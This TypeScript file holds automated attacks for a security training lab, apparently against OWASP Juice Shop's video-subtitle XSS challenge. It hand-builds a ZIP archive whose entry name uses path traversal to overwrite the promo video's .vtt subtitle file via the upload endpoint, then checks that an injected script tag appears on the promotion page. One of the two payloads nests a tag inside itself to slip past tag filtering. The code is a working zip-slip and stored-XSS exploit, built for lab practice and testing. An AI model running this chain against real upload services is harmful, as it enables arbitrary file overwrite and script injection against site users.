import type { Attack, Tools } from '#lab'

const FILE = '../../frontend/dist/frontend/assets/public/videos/owasp_promo.vtt'
const PAYLOAD = '</script><script>alert(`xss`)</script>'

/** A ZIP archive of texts that are not compressed, with names as they are. */
function zip(files: Record<string, string>): Uint8Array<ArrayBuffer> {
  const encoder = new TextEncoder()
  const parts: number[] = []
  const directory: number[] = []
  const short = (value: number) => [value & 255, (value >> 8) & 255]
  const long = (value: number) => [...short(value), ...short(value >>> 16)]
  for (const [name, text] of Object.entries(files)) {
    const [title, content] = [[...encoder.encode(name)], [...encoder.encode(text)]]
    const facts = [
      ...long(0),
      ...long(0),
      ...long(content.length),
      ...long(content.length),
      ...short(title.length),
      0,
      0,
    ]
    const at = parts.length
    parts.push(...long(0x04034b50), 20, 0, 0, 0, 0, 0, ...facts, ...title, ...content)
    directory.push(
      ...long(0x02014b50),
      20,
      0,
      20,
      0,
      0,
      0,
      0,
      0,
      ...facts,
      ...Array(10).fill(0),
      ...long(at),
      ...title,
    )
  }
  const count = short(Object.keys(files).length)
  const end = [
    ...long(0x06054b50),
    0,
    0,
    0,
    0,
    ...count,
    ...count,
    ...long(directory.length),
    ...long(parts.length),
    0,
    0,
  ]
  return new Uint8Array([...parts, ...directory, ...end])
}

/** Complains with an archive. */
async function complain({ http, expect }: Tools, files: Record<string, string>): Promise<void> {
  const form = new FormData()
  form.append('file', new File([zip(files)], 'complaint.zip', { type: 'application/zip' }))
  const answer = await http.post('/file-upload', form)
  expect(answer.status === 204, `the complaint was answered with ${answer.status}`)
}

/** Writes subtitles of one's own and looks at the page of the film. */
async function premiere(tools: Tools, subtitles: string): Promise<void> {
  const { http, expect } = tools
  await complain(tools, { [FILE]: subtitles })
  const file = await http.get('/assets/public/videos/owasp_promo.vtt')
  expect(file.text === subtitles, 'the subtitles are still the old ones')
  const page = await http.get('/promotion')
  expect(page.status === 200, `the page answered with ${page.status}`)
  expect(page.text.includes(PAYLOAD), 'the script is not in the page')
}

export const attacks: Attack[] = [
  {
    challenge: 'videoXssChallenge',
    name: 'an archive with subtitles that end too early',
    run: (tools) => premiere(tools, PAYLOAD),
  },
  {
    challenge: 'videoXssChallenge',
    name: 'real subtitles that end twice, with the tag once plain and once wrapped into itself',
    run: (tools) =>
      premiere(
        tools,
        `WEBVTT\n\n00:00.000 --> 00:05.000\n</script>${PAYLOAD}</script><scr<script>ipt>alert(\`xss\`)</script>\n`,
      ),
  },
]
